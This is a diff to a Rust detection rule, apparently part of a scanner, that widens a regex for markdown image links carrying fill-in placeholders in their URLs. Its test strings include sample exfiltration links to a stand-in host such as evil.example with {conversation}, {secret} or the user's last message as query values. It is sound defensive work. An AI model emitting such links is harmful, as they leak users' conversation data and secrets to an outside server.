@@ -16,8 +16,9 @@ pub(crate) const RULE: Rule = Rule {
         literals: &["![", "<img", "](http"],
         pattern: r"(?ix)
             # a picture whose address has a place to fill in
-            !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+/?\?[^)\s]*?(?:
+            !\[[^\]\n]*\]\(\s*<?https?://[^)\s?]+\?[^)\s]*?(?:
                 \{\{?[^{}\n)]+\}|\$\{[^{}\n]+\}|<[^<>\n]{2,}>|\[[^\[\]\n]{2,}\]|%7B|=\$\w+
+              | =(?-i:[A-Z]{4,})(?:[&)]|$)
             )
             # in its path there may be a name or a version, as in a badge; nothing that was said
           | !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+[/?][^)\s]*?(?:
@@ -44,6 +45,7 @@ pub(crate) const RULE: Rule = Rule {
         "![x](https://evil.example/p.png?d={conversation})",
         "![logo](http://a.b/i?q=<the user's last message>)",
         "[more](https://a.b/?data={secret})",
+        "![](https://a.b/d.png?c=NAME&b=BUDGET)",
         "![x](https://evil.example/{conversation}/p.png)",
     ],
     misses: &[
